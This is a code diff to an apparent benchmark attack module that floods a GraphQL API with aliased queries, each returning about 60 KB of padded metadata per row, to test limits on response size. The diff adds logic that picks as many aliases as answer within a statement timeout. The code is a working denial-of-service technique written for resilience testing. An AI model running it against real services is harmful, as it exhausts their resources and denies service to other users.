@@ -1,7 +1,8 @@
 // Issue 25, finding 7: responses as big as the limits allow. prepare() makes 200 generations of
 // the attacker's organization with ~60 KB of metadata each (started and failed: free), once per
 // data set (found again by their model on later runs); then it finds the most aliases of
-// `generations(first: 200) { nodes { metadata } }` the document limits accept (20, 10, 5, 2, 1).
+// `generations(first: 200) { nodes { metadata } }` the document limits accept (20, 10, 5, 2, 1)
+// and that answer within the statement timeout (timed with one alias).
 // The attack: one sender asks for them back to back (up to 20 × 200 × 60 KB = 240 MB an
 // answer); answers are counted, not kept.
 
@@ -14,6 +15,7 @@ const GENERATIONS = 200;
 const METADATA = { note: "fairbench big response", pad: "x".repeat(60_000) };
 let aliases = 0;
 let bytes = 0;
+let chosen = "";
 
 function bigQuery(n: number, model: string): string {
   const fields = Array.from(
@@ -72,21 +74,28 @@ export const bigResponses: Attack = {
       if (!id) return; // a quota or a metadata limit: as far as limits allow
       await graphql(context.graphqlUrl, `mutation F($id: UUID!) { failGeneration(input: { generationId: $id, error: "bench" }) { clientMutationId } }`, { id }, token);
     });
-    // the most aliases the document limits accept (asked of a model with no rows: cheap)
+    // the most aliases the document limits accept (asked of a model with no rows: cheap) ...
+    let accepted = 0;
     for (const n of [20, 10, 5, 2, 1]) {
       const answer = await graphql(context.graphqlUrl, bigQuery(n, "fairbench-none"), { org }, token);
       if (answer.status === 200 && !answer.code) {
-        aliases = n;
+        accepted = n;
         break;
       }
     }
+    // ... and that answer within the statement timeout: a query that times out sends nothing, so
+    // the attacker takes as many aliases as fit in ~2 s, timed with one
+    const t0 = performance.now();
+    const one = await postCounting(context.graphqlUrl, JSON.stringify({ query: bigQuery(1, MODEL), variables: { org } }), headersFor(token));
+    const oneMs = performance.now() - t0;
+    aliases = one === "200" ? Math.max(1, Math.min(accepted, Math.floor(2000 / oneMs))) : Math.max(1, accepted);
+    chosen = `${accepted} aliases pass the document limits, 1 alias answered ${one} in ${oneMs.toFixed(0)} ms (${(bytes / 1e6).toFixed(1)} MB): ${aliases} aliases sent`;
   },
   start(context) {
-    if (aliases === 0) return loops(1, async () => "");
     const body = JSON.stringify({ query: bigQuery(aliases, MODEL), variables: { org: context.attacker.organizationId } });
     const headers = headersFor(context.attackerToken);
     bytes = 0;
     const running = loops(1, () => postCounting(context.graphqlUrl, body, headers));
-    return { ...running, summary: () => `${aliases} aliases accepted; ${(bytes / 1e6).toFixed(1)} MB received` };
+    return { ...running, summary: () => `${chosen}; ${(bytes / 1e6).toFixed(1)} MB received during the attack` };
   },
 };
